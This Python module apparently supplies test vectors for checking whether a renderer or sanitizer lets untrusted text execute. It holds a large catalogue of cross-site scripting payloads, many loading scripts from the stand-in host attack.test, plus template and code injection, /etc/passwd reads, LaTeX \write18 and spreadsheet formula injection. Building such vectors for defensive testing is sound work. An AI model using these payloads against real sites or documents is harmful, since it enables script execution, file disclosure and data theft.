"""Texts that would run a script, load an address, or break out of where they stand, if a page took them for markup: each calls `alert`,
or asks for a file of `attack.test`."""

from itertools import product

_CALL = "alert(1)"
_ADDRESS = "http://attack.test/x"
_EVENTS = ("onload", "onerror", "onclick", "onmouseover", "onfocus autofocus", "onanimationstart", "ontoggle", "onbegin", "onpointerenter", "onbeforeprint", "onhashchange", "onresize", "onscroll", "onpageshow", "oncontentvisibilityautostatechange")  # fmt: skip
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "details open",
    "input",
    "video src=x",
    "audio src=x",
    "iframe src=x",
    "object data=x",
    "marquee",
    "button",
    "a href=#",
)
_SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "&#106;avascript:", "&#x6A;avascript:", "\x01javascript:", " javascript:", "vbscript:", "data:text/html,", "data:text/html;base64,", "feed:javascript:", "view-source:javascript:", "javascript&colon;")  # fmt: skip
_LINKS = (
    "<a href='{}alert(1)'>x</a>",
    "[x]({}alert(1))",
    "<iframe src='{}alert(1)'></iframe>",
    "<form action='{}alert(1)'><button>x</button></form>",
)
_BREAKS = ("\"", "'", "`", "\">", "'>", "-->", "]]>", "</title>", "</style>", "</script>", "</textarea>", "</noscript>", "</svg>", "</td></tr></table>", "\\\"", "&quot;>", "%22%3E", "{{", "${", "*/", "\u2028")  # fmt: skip
_WHOLE = [
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script src=//attack.test/x></script>", "<script src=http://attack.test/x></script>", "<script>fetch('http://attack.test/x')</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>", "<script\n>alert(1)</script\n>", "<script type=module>import 'http://attack.test/x'</script>", "<svg><script>alert(1)</script></svg>", "<svg><script href=http://attack.test/x></script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set onbegin=alert(1) attributename=x>", "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>", "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>", "<svg><image href=http://attack.test/x></svg>", "<svg><style>@import 'http://attack.test/x'</style></svg>", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<img src=http://attack.test/x>", "<img srcset='http://attack.test/x 2x'>", "<picture><source srcset=http://attack.test/x><img></picture>", "<link rel=stylesheet href=http://attack.test/x>",
    "<link rel=preload as=script href=http://attack.test/x>", "<link rel=icon href=http://attack.test/x>", "<link rel=dns-prefetch href=//attack.test>", "<style>@import url(http://attack.test/x)</style>", "<style>*{background:url(http://attack.test/x)}</style>", "<div style='background:url(http://attack.test/x)'>",
    "<div style='width:expression(alert(1))'>", "<base href=http://attack.test/>", "<meta http-equiv=refresh content='0;url=http://attack.test/x'>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>", "<iframe src=http://attack.test/x>", "<embed src=http://attack.test/x>", "<object data=http://attack.test/x>", "<object type=text/html data='data:text/html,<script>parent.alert(1)</script>'>", "<applet code=x>", "<frameset onload=alert(1)>",
    "<video><source onerror=alert(1)></video>", "<video poster=http://attack.test/x>", "<audio src=http://attack.test/x autoplay>", "<track src=http://attack.test/x>", "<input type=image src=http://attack.test/x>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>", "<form><button formaction=javascript:alert(1)>x", "<form id=x><input name=attributes>", "<isindex type=image src=1 onerror=alert(1)>", "<dialog open onclose=alert(1)>x</dialog>", "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<portal src=http://attack.test/x>", "<fencedframe src=http://attack.test/x>", "<a ping=http://attack.test/x href=#>x</a>", "<table background=http://attack.test/x>", "<td background=http://attack.test/x>", "<body background=http://attack.test/x>", "<bgsound src=http://attack.test/x>", "<xml><x:script>alert(1)</x:script></xml>",
    "<!--><img src=x onerror=alert(1)>", "<!--[if IE]><script>alert(1)</script><![endif]-->", "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href='http://attack.test/x'?>", "<!DOCTYPE x SYSTEM 'http://attack.test/x'>", "<!ENTITY x SYSTEM 'http://attack.test/x'>&x;",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<textarea><script>alert(1)</script></textarea><img src=x onerror=alert(1)>", "<title><img src=x onerror=alert(1)></title>", "<plaintext>", "<xmp><script>alert(1)</script></xmp>", "<listing><img src=x onerror=alert(1)></listing>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)", "&#60;script&#62;alert(1)&#60;/script&#62;", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E", "＜script＞alert(1)＜/script＞", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "javascript:alert(1)", "javascript://%0aalert(1)", "data:text/html,<script>alert(1)</script>", "[x](javascript:alert(1))", "![x](http://attack.test/x)", "![x](x 'onerror=alert(1)')", "<http://attack.test/x>", "[x]: http://attack.test/x\n[x]", "[a](<javascript:alert(1)>)", "[x](data:text/html,alert)",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | x |", "```html\n<script>alert(1)</script>\n```", "# <img src=x onerror=alert(1)>", "> <script>alert(1)</script>", "- <svg onload=alert(1)>", "$\\href{javascript:alert(1)}{x}$", "$$\\unicode{x3cscript}$$", "\\(\\class{x}{y}\\)", "<mathjax>alert</mathjax>",
    "{{7*7}}", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "{% include 'http://attack.test/x' %}", "__import__('os').system('touch pwned')", "'; import os; os.system('touch pwned'); '", "\"); alert(1); (\"", "\n1/0\n", "%load http://attack.test/x", "!touch pwned", "%%bash\ntouch pwned",
    "#import \"/etc/passwd\"", "#read(\"/etc/passwd\")", "#eval(\"1\")", "#include \"/etc/passwd\"", "#image(\"http://attack.test/x\")", "#link(\"javascript:alert(1)\")[x]", "\\input{/etc/passwd}", "\\write18{touch pwned}", "=cmd|'/c calc'!A0", "=HYPERLINK(\"http://attack.test/x\")", "=WEBSERVICE(\"http://attack.test/x\")",
    "<x onclick=alert(1)>x</x>", "<x contenteditable onblur=alert(1)>x</x>", "<x tabindex=1 onfocus=alert(1) id=x>x</x>", "<style>@keyframes x{}</style><x style='animation-name:x' onanimationstart=alert(1)>", "<img src=`x` onerror=alert(1)>", "<img/src/onerror=alert(1)>", "<img src=x:x onerror=alert(1)//", "<svg/onload=alert(1)//",
    "<img\x00src=x onerror=alert(1)>", "<img src=x on\x00error=alert(1)>", "<\x00script>alert(1)</script>", "<img src=x onerror\x0b=alert(1)>", "<img\x0csrc=x\x0conerror=alert(1)>", "\ufeff<script>alert(1)</script>", "\u202e>tpircs<", "<ſcript>alert(1)</ſcript>", "<ıframe src=x>", "<svg><p><style><img src='</style><img src=x onerror=alert(1)>'>",
]  # fmt: skip

VECTORS: list[str] = list(
    dict.fromkeys(
        [
            *_WHOLE,
            *(f"<{tag} {event}={_CALL}>" for tag, event in product(_TAGS[:7], _EVENTS)),
            *(link.format(scheme) for link, scheme in product(_LINKS, _SCHEMES)),
            *(f"{end}<img src=x onerror={_CALL}>" for end in _BREAKS),
            *(f"x{end} onmouseover={_CALL} x={end}" for end in _BREAKS[:3]),
            *(f"{end}<script src={_ADDRESS}></script>" for end in _BREAKS[:12]),
        ]
    )
)
